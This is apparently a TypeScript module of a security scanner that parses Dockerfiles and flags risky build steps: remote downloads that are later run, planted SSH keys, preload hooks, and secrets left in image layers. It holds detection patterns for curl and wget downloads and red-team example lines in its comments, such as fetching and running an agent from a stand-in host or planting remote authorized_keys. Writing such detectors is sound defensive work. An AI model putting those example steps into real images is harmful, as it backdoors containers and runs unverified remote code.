/**
 * A Dockerfile reader: logical instructions (continuations, the `# escape=` directive, heredocs)
 * with exact offsets. RUN/CMD/ENTRYPOINT code goes back to the engine as bash, ADD of a URL is a
 * network fact, COPY/ADD sources are file reads. Written here instead of using dockerfile-ast:
 * that parser costs about 240 µs for an 8-line file and drops whitespace from exec-form strings.
 */
import { knownLogin, noteLogin, type LoginState } from './known-logins.js';
import { copiedAs, copyOf, isCredentialPointer, type Copy } from './credential-pointers.js';
import { emptyContainer, type ContainerInit } from './cli.js';
import { sourceVariable, uncheckedSource } from './package-sources.js';
import { AUTHORIZED_KEYS, holdsLiteralKey, plantsKey } from './planted-keys.js';
import { plantsRunner } from './planted-runners.js';
import { plantedPreload } from './planted-preload.js';
import { addedOverRoot, preloadedDownload, unpackedOverRoot } from './remote-archives.js';
import { shellQuote } from './shell-words.js';
import type { Span } from '../../types.js';

/** Where a RUN/CMD/ENTRYPOINT's code runs. */
export interface BuildStep {
  /** The code changes the image or container being built, not the host (no bind mount, not insecure). */
  readonly inImage: boolean;
  /** Files of BuildKit secret mounts (`--mount=type=secret`) the code may read. */
  readonly secrets: readonly string[];
  /** A RUN step in the build's own sandbox: in the image, and without the host's network. */
  readonly sandboxed: boolean;
  /** The step writes an outside SSH key into authorized_keys (planted-keys.ts): those writes count. */
  readonly plantsKey?: boolean;
  /** The step writes a download-and-run line into a file that runs later (planted-runners.ts). */
  readonly plantsRunner?: boolean;
  /** The step preloads a library into every process that is no known preload (planted-preload.ts). */
  readonly plantsPreload?: boolean;
}

/** Host directories a build reads its files from: the context and named contexts (`--build-context`). */
export interface BuildContexts {
  readonly main?: string;
  readonly named: ReadonlyMap<string, string>;
}

export interface DockerfileSink {
  container(init: ContainerInit, span: Span): void;
  /** Code an instruction runs; `step` says where (absent: on the host, or not known). */
  nested(code: string, span: Span, step: BuildStep): void;
  net(url: string, span: Span): void;
  read(path: string, actor: string, span: Span): void;
  /** Text baked into the image (`ENV NAME=value`, `LABEL`, a RUN line), `field` naming where it sits. */
  literal?(text: string, field: string, span: Span): void;
  /** Work budget (src/engine/budget.ts) for one instruction: false when the analysis must stop. */
  spend?(units: number): boolean;
}

const INSTRUCTION =
  /^(?:from|run|cmd|label|maintainer|expose|env|add|copy|entrypoint|volume|user|workdir|arg|onbuild|stopsignal|healthcheck|shell)$/i;

/** The text is a Dockerfile: its first instruction (after comments, directives, blank lines) is FROM or ARG. */
export function isDockerfile(text: string): boolean {
  const m = /^(?:\s*#[^\n]*\n|\s*\n)*\s*(\w+)[ \t]/.exec(text);
  if (!m) return /^\s*#\s*syntax\s*=/i.test(text);
  const kw = m[1]!.toLowerCase();
  return (
    kw === 'from' || kw === 'arg' || (/^\s*#\s*(?:syntax|escape)\s*=/i.test(text) && INSTRUCTION.test(kw))
  );
}

interface Instruction {
  readonly keyword: string;
  /** Argument text as written (continuations kept), and where it starts. */
  readonly args: string;
  readonly argsStart: number;
  readonly start: number;
  readonly end: number;
  /** Heredoc bodies (`RUN <<EOF ... EOF`) with their offsets. */
  readonly heredocs: { readonly body: string; readonly start: number }[];
}

function readInstructions(text: string): Instruction[] {
  const lines: { text: string; start: number }[] = [];
  let pos = 0;
  for (const line of text.split('\n')) {
    lines.push({ text: line, start: pos });
    pos += line.length + 1;
  }
  let escape = '\\';
  const out: Instruction[] = [];
  let i = 0;
  // Parser directives come first, as `# name=value` comment lines.
  while (i < lines.length) {
    const m = /^\s*#\s*(\w+)\s*=\s*(\S+)\s*$/.exec(lines[i]!.text);
    if (!m) break;
    if (m[1]!.toLowerCase() === 'escape' && (m[2] === '`' || m[2] === '\\')) escape = m[2];
    i++;
  }
  while (i < lines.length) {
    const first = lines[i]!;
    const trimmed = first.text.trim();
    if (trimmed === '' || trimmed.startsWith('#')) {
      i++;
      continue;
    }
    const start = first.start + first.text.indexOf(trimmed[0]!);
    let end = first.start + first.text.length;
    // Join continuation lines (comment lines inside a continuation are dropped by docker).
    let last = first.text;
    while (last.trimEnd().endsWith(escape) && i + 1 < lines.length) {
      i++;
      last = lines[i]!.text;
      end = lines[i]!.start + last.length;
      if (last.trim().startsWith('#')) last = escape;
    }
    i++;
    const raw = text.slice(start, end);
    const m = /^(\w+)[ \t]*/.exec(raw);
    if (!m) continue;
    const keyword = m[1]!.toLowerCase();
    const argsStart = start + m[0].length;
    const args = text.slice(argsStart, end);
    const heredocs: { body: string; start: number }[] = [];
    for (const h of args.matchAll(/<<-?\s*(["']?)([A-Za-z_][\w]*)\1/g)) {
      const delim = h[2]!;
      const bodyStart = i < lines.length ? lines[i]!.start : text.length;
      let j = i;
      while (j < lines.length && lines[j]!.text.trim() !== delim) j++;
      const bodyEnd = j < lines.length ? lines[j]!.start : text.length;
      heredocs.push({ body: text.slice(bodyStart, bodyEnd), start: bodyStart });
      end = j < lines.length ? lines[j]!.start + lines[j]!.text.length : text.length;
      i = j + 1;
    }
    out.push({ keyword, args, argsStart, start, end, heredocs });
  }
  return out;
}

/** Leading `--flag[=value]` words of an instruction's arguments; `mounts` keeps every `--mount`. */
function splitFlags(args: string): {
  flags: Map<string, string>;
  mounts: string[];
  rest: string;
  offset: number;
} {
  const flags = new Map<string, string>();
  const mounts: string[] = [];
  let offset = 0;
  for (;;) {
    const m = /^--([\w-]+)(?:=(\S*))?[ \t]*/.exec(args.slice(offset));
    if (!m) break;
    const name = m[1]!.toLowerCase();
    flags.set(name, m[2] ?? 'true');
    if (name === 'mount') mounts.push(m[2] ?? '');
    offset += m[0].length;
  }
  return { flags, mounts, rest: args.slice(offset), offset };
}

/** Where a `type=secret` mount puts its file: `target=`/`dst=`, else /run/secrets/<id>. */
function secretFile(mount: string): string | undefined {
  const kv = new Map<string, string>();
  for (const part of mount.replace(/^["']|["']$/g, '').split(',')) {
    const eq = part.indexOf('=');
    if (eq > 0) kv.set(part.slice(0, eq).trim().toLowerCase(), part.slice(eq + 1).trim());
  }
  if (kv.get('type') !== 'secret') return undefined;
  const target = kv.get('target') ?? kv.get('dst') ?? kv.get('destination');
  if (target !== undefined) return target;
  const id = kv.get('id');
  return id !== undefined && id !== '' ? `/run/secrets/${id}` : undefined;
}

/** Exec form `["sh", "-c", "..."]` as argv, or undefined for shell form. */
function execForm(rest: string): string[] | undefined {
  const t = rest.trim();
  if (!t.startsWith('[')) return undefined;
  try {
    const v: unknown = JSON.parse(t.replace(/\\\r?\n/g, ''));
    return Array.isArray(v) && v.every((x) => typeof x === 'string') ? v : undefined;
  } catch {
    return undefined;
  }
}

const CODE_KEYWORDS = new Set(['run', 'cmd', 'entrypoint']);

export interface Download {
  readonly path: string;
  readonly name: string;
  readonly url: string;
  /** Fixed content: `ADD --checksum=...` or a release asset under its version tag. */
  readonly pinned?: boolean;
  /** A forge checkout of a release tag or commit: source a build step may run, as it would a package. */
  readonly release?: boolean;
}

/** Actor of the file fact for a secret build argument written into an image layer (DKR-AST-010). */
export const SECRET_LAYER_ACTOR = 'Dockerfile RUN writes build argument';
/** `actor` prefix of a COPYed file an ENV names as the credential (credential-pointers.ts). */
export const CREDENTIAL_POINTER_ACTOR = 'Dockerfile COPY credential named by ENV';

/** A release asset under its tag (`github.com/o/r/releases/download/v0.19.0/tini`): fixed content. */
const RELEASE_ASSET =
  /^https:\/\/(?:github\.com|gitlab\.com)\/[\w.-]+\/[\w.-]+\/(?:-\/)?releases\/download\/v?\d[\w.+-]*\//i;
/**
 * A public forge repository at a release tag or a commit (`ADD https://github.com/acme/tools.git#v1.2.0`,
 * r6 FP): a fixed checkout, as `pip install git+https://github.com/o/r@v1.2.0` installs. A moving ref
 * (a branch, `#v1`, none) is whatever the repository holds when the build runs.
 */
const RELEASE_CHECKOUT =
  /^(?:https:\/\/|ssh:\/\/git@)(?:github\.com|gitlab\.com|bitbucket\.org)\/[\w.-]+\/[\w.-]+?(?:\.git)?#(?:v?\d+\.\d+(?:\.\d+)*(?:[-+][\w.]+)?|[0-9a-f]{40})(?::[\w./-]*)?$/i;
/**
 * A RUN that only sets a downloaded file's mode or owner (`chmod +x /tini`, the tini README
 * pattern; red team r4 FP) prepares it without running it.
 */
const ONLY_PREPARES = /^\s*(?:(?:chmod|chown|chgrp)\s+[^;&|`$()<>]*?(?:\s*(?:&&|;)\s*|\s*$))+$/;

/**
 * Where `ADD URL DEST` puts what it fetches: a file keeps its URL name in a directory destination
 * (one ending in `/`, or `.`, the WORKDIR); a git repository (ssh or https) is checked out into
 * DEST itself, so a later `RUN /src/run` or `pip install /app` uses the fetched code (red team r3).
 */
function downloadOf(url: string, dest: string): Download | undefined {
  const git = /^(?:git|ssh):\/\//i.test(url) || /\.git(?:[#?].*)?$/i.test(url);
  const base =
    url
      .replace(/[?#].*$/, '')
      .split('/')
      .pop() ?? '';
  const dir = dest.replace(/\/+$/, '');
  const path = git ? dir : dest.endsWith('/') ? dest + base : dest === '.' ? `./${base}` : dest;
  const name = path.split('/').pop() ?? '';
  return name === '' || name === '.' ? undefined : { path, name, url };
}

/** `curl ... -o PATH URL`, `wget -qO PATH URL` (either order): a file a RUN fetches. */
const FETCH_TO_FILE =
  /\b(?:curl|wget)\b[^;&|\n]*?(?:\s-[A-Za-z]*[oO]\s*|\s--output(?:-document)?[= ]\s*)(["']?)(\/[^\s"';&|]+)\1/g;
const URL_IN = /https?:\/\/[^\s"';&|)]+/;
/** A download checked against a known digest in the same RUN. */
const VERIFIED = /\bsha(?:256|512)sum\b|\bgpg\s+--verify\b|\bcosign\s+verify\b|--checksum\b/;

/**
 * Files a RUN downloads to a fixed path (red team r5: `wget -qO /usr/local/bin/agent https://x/agent`
 * then `ENTRYPOINT ["/usr/local/bin/agent"]`): later code naming the path runs fetched content. A
 * release asset under its version tag, or a digest check, pins it.
 */
export function runDownloads(code: string): Download[] {
  const out: Download[] = [];
  if (code.length > 65536) return out;
  for (const m of code.matchAll(FETCH_TO_FILE)) {
    const cmd = code.slice(m.index, code.slice(m.index).search(/&&|\|\||;|\n|$/) + m.index);
    const url = URL_IN.exec(cmd)?.[0];
    if (url === undefined || out.length >= 8) continue;
    const pinned = RELEASE_ASSET.test(url) || VERIFIED.test(code);
    out.push({ path: m[2]!, name: m[2]!, url, ...(pinned && { pinned }) });
  }
  return out;
}

/**
 * A downloaded archive unpacked (`tar x...f FILE`, `unzip FILE`) and a program run by path in the
 * same code (`&& /opt/helper/install.sh`, `sh ./install.sh`): the archive's content runs (r5). The
 * download it unpacks, or undefined.
 */
export function unpackedAndRun(code: string, downloads: readonly Download[]): Download | undefined {
  if (code.length > 65536) return undefined;
  for (const d of downloads) {
    if (d.pinned === true || !code.includes(d.name)) continue;
    const at = code.search(/\b(?:tar\s+-?[a-zA-Z]*x[a-zA-Z]*|unzip|bsdtar\s+-?[a-zA-Z]*x[a-zA-Z]*|7z\s+x)\b/);
    if (at < 0 || !code.slice(at).includes(d.name)) continue;
    const after = code.slice(at);
    if (/(?:&&|;|\|\||\n)\s*(?:(?:ba|da|z)?sh\s+|\.\/|\/)[\w./-]+/.test(after)) return d;
  }
  return undefined;
}

/** Registries of the official and vendor images (`COPY --from=ghcr.io/astral-sh/uv /uv /bin/`). */
const KNOWN_REGISTRY =
  /^(?:docker\.io|index\.docker\.io|ghcr\.io|gcr\.io|[\w-]+\.gcr\.io|quay\.io|mcr\.microsoft\.com|public\.ecr\.aws|registry\.k8s\.io|cgr\.dev|registry\.gitlab\.com|docker\.elastic\.co|nvcr\.io)$/i;

/**
 * `COPY --from=IMAGE SRC... DEST` of an image on another registry under a moving tag (latest, or
 * none): its files are remote content a later RUN may run (r5: `COPY --from=x-registry.example.com/
 * tools/agent:latest /agent /usr/local/bin/agent` then `RUN /usr/local/bin/agent --install`). A
 * digest, a version tag or a known registry pins it: undefined then, and for a numbered stage.
 */
function imageCopy(from: string, parts: readonly string[]): Download | undefined {
  if (/^\d+$/.test(from) || parts.length < 2) return undefined;
  const first = from.split('/')[0]!;
  const registry = from.includes('/') && /[.:]/.test(first) ? first : 'docker.io';
  const tag = /:([\w.-]+)$/.exec(from.replace(/^[^/]*\//, ''))?.[1];
  const pinned =
    from.includes('@sha256:') || (tag !== undefined && tag !== 'latest') || KNOWN_REGISTRY.test(registry);
  // A pinned image is content like the FROM image's: fixed, not fetched anew.
  if (pinned) return undefined;
  const dest = parts[parts.length - 1]!;
  const src = parts[0]!;
  const path = dest.endsWith('/') ? dest + (src.split('/').pop() ?? '') : dest;
  if (path === '' || path.endsWith('/')) return undefined;
  return {
    path,
    name: path,
    url: `https://${registry}/${from.slice(registry === 'docker.io' ? 0 : first.length + 1)}`,
  };
}

const WORD_PAIR = /([A-Za-z_]\w*)=("(?:[^"\\]|\\.)*"|'[^']*'|\S*)/g;
const LABEL_PAIR = /([A-Za-z_][\w.-]*)=("(?:[^"\\]|\\.)*"|'[^']*'|\S*)/g;

/** `ARG`/`ENV`/`LABEL` declarations as `NAME=value` pairs (quotes around a value removed). */
function declarations(keyword: string, args: string): [string, string][] {
  const t = args.trim();
  const legacy = /^([A-Za-z_]\w*)[ \t]+(?![\w]+=)(.*)$/s.exec(t);
  if (keyword === 'env' && legacy && !t.includes('=')) return [[legacy[1]!, legacy[2]!.trim()]];
  const out: [string, string][] = [];
  // LABEL keys are reverse-DNS names (`com.acme.api-key`); ARG/ENV names are words.
  for (const m of t.matchAll(keyword === 'label' ? LABEL_PAIR : WORD_PAIR)) {
    const v = m[2]!;
    const unq = /^(["']).*\1$/s.test(v) ? v.slice(1, -1).replace(/\\(["\\])/g, '$1') : v;
    out.push([m[1]!, unq]);
  }
  return out;
}

/** Build arguments named for a secret (NPM_TOKEN, GITHUB_PAT, DB_PASSWORD, AWS_SECRET_ACCESS_KEY). */
const SECRET_NAME = /(?:token|secret|passw(?:or)?d|passwd|pat|api_?key|access_key|auth|credentials?)$/i;
/** Commands that write their arguments into a config file in the image (npm/yarn/pip/git config). */
const CONFIG_WRITERS: readonly (readonly [RegExp, string])[] = [
  [/\b(?:npm|yarn|pnpm)\s+config\s+set\b/, '.npmrc'],
  [/\bgit\s+config\b/, '.gitconfig'],
  [/\b(?:pip|pip3)\s+config\s+set\b|\bpoetry\s+config\b/, 'pip.conf'],
];

/**
 * The file a RUN writes a secret build argument into and does not remove again in the same RUN
 * (red team r4: `ARG NPM_TOKEN` then `printf '...%s' "$NPM_TOKEN" > /root/.npmrc && npm ci`): the
 * layer keeps the file, and with it the token, for whoever pulls the image. Undefined otherwise.
 */
/**
 * `git clone https://${TOKEN}@host/repo.git DIR`: git keeps the URL, token included, in
 * DIR/.git/config (r7). The file, or undefined when the segment is no such clone.
 */
function clonedConfig(seg: string, ref: RegExp): string | undefined {
  const m = /\bgit\s+clone\b(.*)/.exec(seg);
  if (m === null) return undefined;
  const words = m[1]!.trim().split(/\s+/);
  const at = words.findIndex(
    (w) => /^["']?[a-z][\w+.-]*:\/\/[^/\s]*@/i.test(w) && ref.test(w.split('@')[0]!),
  );
  if (at === -1) return undefined;
  const dir = words.slice(at + 1).find((w) => !w.startsWith('-'));
  const repo = /([^/]+?)(?:\.git)?["']?$/.exec(words[at]!)?.[1] ?? 'repo';
  return `${(dir ?? repo).replace(/["']/g, '').replace(/\/+$/, '')}/.git/config`;
}

/** A config command that removes a setting rather than writing one. */
const UNSETS =
  /\bgit\s+config\b[^;]*--(?:unset(?:-all)?|remove-section)\b|\b(?:npm|yarn|pnpm)\s+config\s+(?:delete|rm|unset)\b/;

export function secretLeftInLayer(code: string, name: string): string | undefined {
  const ref = new RegExp(String.raw`\$\{?${name}\b`);
  if (code.length > 65536 || !ref.test(code)) return undefined;
  const segments = code.split(/&&|\|\||;|\n/);
  for (let i = 0; i < segments.length; i++) {
    const seg = segments[i]!;
    if (!ref.test(seg) || UNSETS.test(seg)) continue;
    const target =
      /(?:^|[^<>&0-9])>>?\s*([^\s;&|<>]+)/.exec(seg)?.[1] ??
      /\btee\s+(?:-a\s+)?([^\s;&|<>-][^\s;&|<>]*)/.exec(seg)?.[1] ??
      CONFIG_WRITERS.find(([re]) => re.test(seg))?.[1] ??
      clonedConfig(seg, ref);
    if (target === undefined || /^\/dev\/(?:null|stdout|stderr)$/.test(target)) continue;
    const base = target.replace(/["']/g, '').split('/').pop()!;
    const later = segments.slice(i + 1).join(';');
    const removed =
      (base !== '' && later.includes(base) && /\brm\b/.test(later)) ||
      (base === 'config' && /\bgit\b.*\bremote\s+(?:set-url|remove|rm)\b|\brm\b.*\.git\b/.test(later)) ||
      // The setting unset again before the RUN ends (R14/R15 twins: a BuildKit token in an insteadOf
      // rule, `git config --global --unset-all url....insteadOf` after the install).
      ((base === '.gitconfig' || base === '.npmrc') && UNSETS.test(later));
    if (!removed) return target.replace(/["']/g, '');
  }
  return undefined;
}

export function analyzeDockerfile(text: string, sink: DockerfileSink, contexts?: BuildContexts): void {
  // A file of the build context, as the host path it is read from (`context: /home/agent` + `COPY .ssh`).
  const inContext = (dir: string | undefined, src: string): string =>
    dir === undefined || dir === '.' || src.startsWith('/')
      ? src
      : `${dir.replace(/\/+$/, '')}/${src.replace(/^\.\//, '')}`;
  const image = emptyContainer();
  // ARG/ENV values seen so far, set before each RUN's code so `RUN sh -c "$C"` is read with them.
  const vars = new Map<string, string>();
  // Build arguments named for secrets: a RUN that writes one into a file leaves it in the layer.
  const secretArgs = new Set<string>();
  // Files ADD fetched from a URL: a later RUN that names one runs downloaded content.
  const downloads: Download[] = [];
  const withVars = (code: string, keyword: string): string => {
    if (vars.size === 0 && downloads.length === 0) return code;
    let prefix = '';
    // Only the names the code uses, so the prefix stays within the code's own size.
    for (const [k, v] of vars) if (code.includes(k)) prefix += `${k}=${shellQuote(v)}; `;
    // ADD URL DEST is `curl -o DEST URL` as far as the RUN that uses DEST is concerned. A pinned
    // download is the image's own fixed content when a RUN only prepares it or the container's
    // ENTRYPOINT/CMD runs it (tini); a build step that runs it still counts.
    const prepares = keyword !== 'run' || (code.length <= 512 && ONLY_PREPARES.test(code));
    for (const d of downloads)
      if (code.includes(d.name) && !(d.pinned === true && (prepares || d.release === true)))
        prefix += `curl -fsSL -o ${shellQuote(d.path)} ${shellQuote(d.url)}; `;
    // An unpacked archive's program run: the fetched content runs, as `curl URL | sh` would.
    const unpacked = unpackedAndRun(code, downloads);
    if (unpacked !== undefined) prefix += `curl -fsSL ${shellQuote(unpacked.url)} | sh; `;
    return prefix + code;
  };
  let imageSpan: Span | undefined;
  // An SSH server and a literal account password (known-logins.ts).
  const login: LoginState = {};
  // Files COPYed from the context, and ENVs naming where the credential is (credential-pointers.ts).
  const copies: Copy[] = [];
  const pointers: { name: string; path: string; span: Span }[] = [];
  // Build stage names (`FROM node:20 AS build`): `COPY --from=build` copies the build's own files.
  const stages = new Set<string>();
  // A package source installed from with its checks off runs what that host serves, as `curl | sh`.
  let unchecked = false;
  const checkSources = (text: string, span: Span): void => {
    const src = unchecked ? undefined : uncheckedSource(text);
    if (src === undefined) return;
    unchecked = true;
    sink.nested(`curl -fsSL ${shellQuote(src.url)} | sh`, span, {
      inImage: true,
      secrets: [],
      sandboxed: true,
    });
  };
  // Remote content laid over the system or preloaded into every program runs, as `curl | sh` (r7).
  let workdir = '';
  const remoteCode = (url: string | undefined, span: Span): void => {
    if (url !== undefined)
      sink.nested(`curl -fsSL ${shellQuote(url)} | sh`, span, {
        inImage: true,
        secrets: [],
        sandboxed: true,
      });
  };
  // An outside SSH key written into the image's authorized_keys, as the shell code that writes it.
  const plant = (code: string, span: Span): void =>
    sink.nested(code, span, { inImage: true, secrets: [], sandboxed: true, plantsKey: true });
  const handle = (ins: Instruction, keyword: string, args: string, argsStart: number): void => {
    const span = { start: ins.start, end: ins.end };
    if (keyword === 'onbuild') {
      const m = /^(\w+)[ \t]*/.exec(args);
      if (m) handle(ins, m[1]!.toLowerCase(), args.slice(m[0].length), argsStart + m[0].length);
      return;
    }
    if (keyword === 'healthcheck') {
      const m = /\bCMD\b[ \t]*/i.exec(args);
      if (m) handle(ins, 'cmd', args.slice(m.index + m[0].length), argsStart + m.index + m[0].length);
      return;
    }
    if (keyword === 'expose') noteLogin(login, keyword, args);
    if (CODE_KEYWORDS.has(keyword)) {
      noteLogin(
        login,
        keyword,
        ins.heredocs.length === 0 ? args : [args, ...ins.heredocs.map((h) => h.body)].join('\n'),
      );
      // The instruction line itself is stored in the image's history (`docker history`).
      sink.literal?.(args, keyword.toUpperCase(), span);
      const { flags, mounts, rest, offset } =
        keyword === 'run'
          ? splitFlags(args)
          : { flags: new Map<string, string>(), mounts: [], rest: args, offset: 0 };
      if (flags.get('security') === 'insecure') image.privileged = true;
      if (flags.get('network') === 'host' && !image.hostNamespaces.includes('net'))
        image.hostNamespaces.push('net');
      const codeSpan = { start: argsStart + offset, end: ins.end };
      // A bind mount (`RUN --mount=type=bind,source=/`) or an insecure sandbox reaches the host.
      // Every --mount counts: a cache or secret mount written after a bind one must not hide it.
      const inImage = !mounts.some((m) => /type=bind/i.test(m)) && flags.get('security') !== 'insecure';
      // The key may sit in an ENV/ARG the code names (`echo "$KEY" >> ...`).
      const own = ins.heredocs.length === 0 ? rest : [rest, ...ins.heredocs.map((h) => h.body)].join('\n');
      const keyed =
        own.includes('authorized_keys') &&
        plantsKey([own, ...[...vars].filter(([k]) => own.includes(k)).map(([, v]) => v)].join('\n'));
      const step: BuildStep = {
        inImage,
        secrets: mounts.map(secretFile).filter((f): f is string => f !== undefined),
        sandboxed: keyword === 'run' && inImage && flags.get('network') !== 'host',
        ...(keyed && { plantsKey: true }),
        ...(plantsRunner(own) && { plantsRunner: true }),
        ...(/ld\.so\.preload/.test(own) &&
          plantedPreload(own, copies) !== undefined && { plantsPreload: true }),
      };
      if (keyword === 'run' && step.inImage)
        for (const name of secretArgs) {
          const file = secretLeftInLayer(rest, name);
          if (file !== undefined) sink.read(file, `${SECRET_LAYER_ACTOR} ${name}`, span);
        }
      for (const h of ins.heredocs)
        sink.nested(withVars(h.body, keyword), { start: h.start, end: h.start + h.body.length }, step);
      if (keyword === 'run') {
        checkSources(rest, codeSpan);
        // Downloads this RUN makes, for the instructions after it (and its own unpack-and-run).
        const fetched = runDownloads(rest);
        for (const d of fetched) if (downloads.length < 16) downloads.push(d);
        const body = [rest, ...ins.heredocs.map((h) => h.body)].join('\n');
        remoteCode(
          unpackedOverRoot(body, downloads, workdir) ??
            (/ld\.so\.preload/.test(body) ? preloadedDownload(body, downloads) : undefined),
          codeSpan,
        );
        // A secret mount's file copied elsewhere stays in the layer (`cp /root/.npmrc /app/`; r5).
        for (const file of step.secrets) {
          const kept = secretLeftInLayer(
            rest.split(file).join('$BUILDKIT_SECRET_FILE'),
            'BUILDKIT_SECRET_FILE',
          );
          const copied = new RegExp(
            String.raw`\b(?:cp|mv|install)\s+(?:-\S+\s+)*${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\s+([^\s;&|]+)`,
          ).exec(rest)?.[1];
          const left = copied ?? kept;
          if (left !== undefined) sink.read(left, `${SECRET_LAYER_ACTOR} ${file}`, span);
        }
      }
      const argv = execForm(rest);
      if (argv !== undefined) {
        if (argv.length > 0) sink.nested(withVars(argv.map(shellQuote).join(' '), keyword), codeSpan, step);
      } else if (ins.heredocs.length === 0 || !/^\s*<<-?\s*\S+\s*$/.test(rest)) {
        sink.nested(withVars(rest, keyword), codeSpan, step);
      }
      return;
    }
    switch (keyword) {
      case 'from': {
        const m = /^(?:--\S+\s+)*(\S+)/.exec(args);
        if (m) image.image = m[1];
        const stage = /\bAS\s+(\S+)\s*$/i.exec(args)?.[1];
        if (stage !== undefined && stages.size < 64) stages.add(stage.toLowerCase());
        imageSpan ??= span;
        return;
      }
      case 'arg':
      case 'env':
        // `ARG NPM_TOKEN` (no value: declarations() reads only NAME=value pairs).
        for (const m of args.matchAll(/(?:^|\s)([A-Za-z_]\w*)(?==|\s|$)/g))
          if (keyword === 'arg' && SECRET_NAME.test(m[1]!) && secretArgs.size < 16) secretArgs.add(m[1]!);
        for (const [k, v] of declarations(keyword, args)) {
          vars.set(k, v);
          if (v !== '') sink.literal?.(`${k}=${v}`, `${keyword.toUpperCase()} ${k}`, span);
        }
        if (keyword === 'env')
          for (const [k, v] of declarations(keyword, args))
            if (isCredentialPointer(k) && pointers.length < 16) pointers.push({ name: k, path: v, span });
        if (keyword === 'env') checkSources([...vars].map(([k, v]) => `${k}=${v}`).join('\n'), span);
        // `ENV LD_PRELOAD=/usr/lib/hook.so` of a library ADD or curl fetched: every program loads it.
        if (keyword === 'env' && vars.has('LD_PRELOAD')) {
          remoteCode(preloadedDownload(vars.get('LD_PRELOAD')!, downloads), span);
          // A library of the build's own or no known preload (planted-preload.ts): as the preload file it amounts to.
          const lib = plantedPreload(vars.get('LD_PRELOAD')!, copies, true);
          if (lib !== undefined)
            sink.nested(`echo ${shellQuote(lib)} >> /etc/ld.so.preload`, span, {
              inImage: true,
              secrets: [],
              sandboxed: true,
              plantsPreload: true,
            });
        }
        // `ENV PIP_INDEX_URL=URL` is `pip config set global.index-url URL` for every later install
        // (ARG values are in the build's environment too): PKG-AST-003 judges the host (r6).
        for (const [k, v] of declarations(keyword, args)) {
          const code = sourceVariable(k, v);
          if (code !== undefined) sink.nested(code, span, { inImage: true, secrets: [], sandboxed: true });
        }
        return;
      case 'shell': {
        // `SHELL ["sh", "-c", "CODE"]`: every later shell-form RUN runs CODE, its own text as $0 (r6).
        const argv = execForm(args);
        if (argv !== undefined && argv.length > 0)
          sink.nested(withVars(argv.map(shellQuote).join(' '), 'run'), span, {
            inImage: true,
            secrets: [],
            sandboxed: true,
          });
        return;
      }
      case 'label':
        for (const [k, v] of declarations('label', args))
          if (v !== '') sink.literal?.(`${k}=${v}`, `LABEL ${k}`, span);
        return;
      case 'user':
        image.user = args.trim().split(/\s+/)[0];
        return;
      case 'workdir':
        workdir = args.trim();
        return;
      case 'add':
      case 'copy': {
        const { flags, rest } = splitFlags(args);
        if (flags.has('from')) {
          // From another build stage, not the host; from an image, its files are fetched like ADD's.
          const from = flags.get('from')!;
          const parts = execForm(rest) ?? rest.trim().split(/\s+/);
          // A named build context (compose `additional_contexts: {home: /home/agent}`): host files (r6).
          const dir = stages.has(from.toLowerCase()) ? undefined : contexts?.named.get(from);
          if (dir !== undefined) {
            for (const src of parts.slice(0, -1))
              sink.read(inContext(dir, src), 'Dockerfile COPY --from context', span);
            return;
          }
          const fetched = stages.has(from.toLowerCase()) ? undefined : imageCopy(from, parts);
          if (fetched !== undefined && downloads.length < 16) downloads.push(fetched);
          return;
        }
        const parts =
          execForm(rest) ??
          rest
            .trim()
            .split(/\s+/)
            .filter((p) => p !== '' && p !== '\\');
        const dest = parts[parts.length - 1] ?? '';
        // `COPY --chmod=4755 rootsh /usr/local/bin/` (R14): the mode it lands with, as the chmod it is.
        // A renamed copy (`busybox` to `/bin/.bb`) keeps its content: the source's name is an operand too.
        const mode = flags.get('chmod');
        if (mode !== undefined && /^[0-7]{4}$/.test(mode) && /^[1-7]/.test(mode))
          for (const src of parts.slice(0, -1).slice(0, 8)) {
            const name = src.split('/').pop() ?? '';
            const landed = dest.endsWith('/') ? dest + name : dest;
            const operands = landed.endsWith(`/${name}`) ? [landed] : [landed, name];
            sink.nested(`chmod ${mode} ${operands.map(shellQuote).join(' ')}`, span, {
              inImage: true,
              secrets: [],
              sandboxed: true,
            });
          }
        // `COPY <<EOF /root/.ssh/authorized_keys` with a key written out in full (r6).
        if (AUTHORIZED_KEYS.test(dest) && ins.heredocs.some((h) => holdsLiteralKey(h.body)))
          plant(`printf '%s\\n' key >> ${shellQuote(dest)}`, span);
        for (const src of parts.slice(0, -1)) {
          if (src.startsWith('<<')) continue;
          if (/^(?:https?|git|ssh):\/\//i.test(src) || /^[\w.-]+@[\w.-]+:/.test(src)) {
            // `git@host:owner/repo.git` is ssh: the same checkout as ssh://git@host/owner/repo.git.
            const url = /^[\w.-]+@[\w.-]+:(?!\/\/)/.test(src) ? `ssh://${src.replace(':', '/')}` : src;
            if (keyword === 'add') sink.net(url, span);
            if (keyword === 'add' && downloads.length < 16) {
              const download = downloadOf(url, dest);
              const release = RELEASE_CHECKOUT.test(url);
              // `releases/download/v${VERSION}/` with `ARG VERSION=3.1.6` is the tagged asset.
              const known = url.replace(/\$\{?(\w+)\}?/g, (m, k: string) => vars.get(k) ?? m);
              const pinned = release || flags.has('checksum') || RELEASE_ASSET.test(known);
              if (download !== undefined)
                downloads.push(pinned ? { ...download, pinned, ...(release && { release }) } : download);
              // `ADD https://x/rootfs.tar.gz /`: remote files over the system (r7).
              if (download !== undefined && !pinned) remoteCode(addedOverRoot(download, dest), span);
              // `ADD https://x/keys /root/.ssh/authorized_keys`: an outside key planted in the image.
              if (download !== undefined && AUTHORIZED_KEYS.test(download.path))
                plant(`curl -fsSL ${shellQuote(url)} >> ${shellQuote(download.path)}`, span);
            }
          } else {
            sink.read(
              inContext(contexts?.main, src),
              keyword === 'add' ? 'Dockerfile ADD' : 'Dockerfile COPY',
              span,
            );
            if (copies.length < 32) copies.push(copyOf(src, dest, workdir));
          }
        }
        return;
      }
    }
  };
  for (const ins of readInstructions(text)) {
    if (sink.spend?.(1 + (ins.end - ins.start)) === false) break;
    handle(ins, ins.keyword, ins.args, ins.argsStart);
  }
  const known = knownLogin(login);
  if (known !== undefined) image.unauthenticated = known;
  for (const p of pointers) {
    const copied = copiedAs(copies, p.path);
    if (copied !== undefined)
      sink.read(
        inContext(contexts?.main, copied.src),
        `${CREDENTIAL_POINTER_ACTOR} ${p.name}=${p.path}`,
        p.span,
      );
  }
  sink.container(
    image,
    imageSpan ?? {
      start: 0,
      end: Math.min(text.length, text.indexOf('\n') < 0 ? text.length : text.indexOf('\n')),
    },
  );
}
